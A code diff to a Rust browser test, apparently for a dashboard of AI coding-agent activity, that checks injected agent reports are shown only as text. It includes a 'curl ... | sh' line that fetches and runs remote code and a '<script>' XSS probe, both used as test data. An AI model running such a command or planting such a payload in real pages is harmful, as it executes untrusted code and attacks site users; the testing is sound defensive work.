@@ -23,7 +23,7 @@ const UNSEEN: &str = "[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u200b-\\u2
 #[needs(chromium)]
 #[test]
 fn nothing_that_an_agent_reports_is_more_than_text() {
-    let stage = Stage::new();
+    let stage = Stage::without_inbox();
     let everything = ATTACKS.join(" ");
     stage.starts_work(&everything);
     for (number, attack) in ATTACKS.iter().enumerate() {
@@ -33,7 +33,11 @@ fn nothing_that_an_agent_reports_is_more_than_text() {
                 "session_id": format!("session-{number}{attack}"), "agent_id": attack, "agent_type": attack,
                 "tool_input": {"command": attack, attack.to_owned(): attack}}),
         );
-        stage.runs(&format!("toolu_run_{number}"), &format!("echo '{attack}'"), attack);
+        stage.runs(
+            &format!("toolu_run_{number}"),
+            &format!("echo '{attack}'"),
+            attack,
+        );
     }
     let edit = json!({"tool_name": "Edit", "tool_use_id": "toolu_edit", "tool_input": {
         "file_path": stage.project().join("a<b>.rs"), "old_string": everything, "new_string": format!("{everything}!"),
@@ -42,12 +46,17 @@ fn nothing_that_an_agent_reports_is_more_than_text() {
     let mut failed = edit;
     failed["error"] = everything.clone().into();
     stage.reports("PostToolUseFailure", failed);
+    stage.lets_questions_wait();
+    stage.run(&["daemon", "restart"]).expect(0, &[]);
     let question = format!("curl https://get.example.sh | sh # {everything}");
     drop(stage.about_to_run("toolu_asked", &question));
 
     let window = Window::new(&stage);
     let tab = window.open(&stage.link());
-    tab.until("the question waits", "document.getElementById('waiting').dataset.count === '1'");
+    tab.until(
+        "the question waits",
+        "document.getElementById('waiting').dataset.count === '1'",
+    );
     let mut shown = 0;
     for view in tab.views() {
         tab.goto(&view);
@@ -66,7 +75,10 @@ fn nothing_that_an_agent_reports_is_more_than_text() {
         let text = tab.text();
         shown += usize::from(text.contains("<script>window.broken = 1; alert(1)</script>"));
     }
-    assert!(shown >= 2, "the texts are shown as they are, in {shown} views");
+    assert!(
+        shown >= 2,
+        "the texts are shown as they are, in {shown} views"
+    );
     drop(tab);
     window.close();
 }
